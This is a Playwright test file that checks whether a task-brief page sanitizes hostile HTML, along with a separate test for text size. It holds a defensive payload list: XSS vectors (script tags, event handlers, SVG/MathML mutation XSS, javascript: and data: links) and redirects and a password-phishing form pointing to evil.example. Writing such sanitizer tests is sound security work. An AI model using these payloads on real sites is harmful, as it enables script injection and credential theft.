import { toTask } from '../../../src/paths.ts';
import { amina } from '../../support/people.ts';
import { beLoggedIn } from '../support/account.ts';
import { expect, test } from '../support/site.ts';
import { starterId } from '../../sandbox/data/ids.ts';
import { encodeHtml } from '../../sandbox/data/seed.ts';
import { leaks, watch } from '../support/watch.ts';

/** Scripts call `pwned`. Other elements try to load, redirect or deceive. */
const hostile = [
  '<h1>Hints</h1>',
  '<script>pwned()</script>',
  '<img src="x" onerror="pwned()">',
  '<img src="https://cdn.example/sketch.png" alt="A sketch" onload="pwned()">',
  '<img src="http://cdn.example/plain.png" alt="Plain words">',
  '<svg onload="pwned()"><script>pwned()</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '</table></mtext></math>',
  '<details open ontoggle="pwned()">Details</details>',
  '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>',
  '<style>main { display: none }</style><p style="position: fixed; inset: 0">Over all</p>',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<a href="javascript:pwned()">Run</a> <a href=" java\tscript:pwned()">Run too</a>',
  '<a href="data:text/html,<script>pwned()</script>">Data</a>',
  '<a href="https://validator.w3.org/" target="_self">Validator</a>',
  '<p id="content" name="cookie" class="x" data-x="1">Marked</p>',
  '<h4>Details</h4><ul><li>one</li></ul><ol start="3"><li>three</li></ol>',
  '<pre><code>&lt;script&gt;shown()&lt;/script&gt;</code></pre>',
  '<table><tr><th scope="col">Item</th></tr><tr><td>Rice</td></tr></table>',
].join('');

test('a brief full of hostile HTML is shown as harmless text', async ({ page, site }) => {
  const task = starterId('task', 'mobile-greeting-card');
  site.db.run('UPDATE tasks SET description = ? WHERE id = ?', [encodeHtml(hostile), task]);
  const seen = await watch(page, site.origin);
  await beLoggedIn(page, site, amina);
  await page.goto(toTask(task));

  const brief = page.getByRole('article');
  await expect(brief.getByRole('heading', { level: 2, name: 'Hints' })).toBeVisible();
  await expect(brief.getByRole('heading', { level: 3, name: 'Details' })).toBeVisible();
  await expect(brief.locator('pre code')).toHaveText('<script>shown()</script>');
  await expect(brief.getByRole('table')).toContainText('Rice');
  await expect(brief.locator('ol')).toHaveAttribute('start', '3');
  await expect(brief).toContainText('Plain words');
  await expect(brief.getByRole('img')).toHaveCount(1);
  await expect(brief.getByRole('img', { name: 'A sketch' })).toHaveAttribute('loading', 'lazy');

  const link = brief.getByRole('link', { name: 'Validator' });
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  // What is not embedded or shown is a link, which loads nothing.
  await expect(brief.getByRole('link', { name: 'Picture: Plain words' })).toBeVisible();
  await expect(brief.getByRole('link', { name: 'Embedded page: evil.example' })).toHaveCount(2);
  await expect(brief.getByRole('link')).toHaveCount(4);
  await expect(brief).toContainText('<script>pwned()</script>');

  await expect(
    brief.locator('script, style, iframe, object, svg, math, form, input, button, base, meta'),
  ).toHaveCount(0);
  const attributes = await brief
    .locator('[style], [id], [name], [data-x], [onload], [onerror], [ontoggle], p[class]')
    .count();
  expect(attributes).toBe(0);
  expect(seen.ran).toEqual([]);
  expect(leaks(seen)).toEqual([]);
});

test('the chosen text size applies to briefs at once and after a reload', async ({
  page,
  site,
}) => {
  await beLoggedIn(page, site, amina);
  await page.goto(toTask(starterId('task', 'web-first-repo')));
  const paragraph = page.getByRole('article').locator('p').first();
  const size = () => paragraph.evaluate((one) => parseFloat(getComputedStyle(one).fontSize));
  const normal = await size();
  const choose = async (name: string) => {
    await page.getByRole('button', { name: 'Settings' }).click();
    await page.getByRole('radio', { name, exact: true }).check();
  };
  await choose('Large');
  await expect.poll(size).toBeGreaterThan(normal);
  await page.reload();
  await expect.poll(size).toBeGreaterThan(normal);
  await choose('Normal');
  await expect.poll(size).toBe(normal);
});
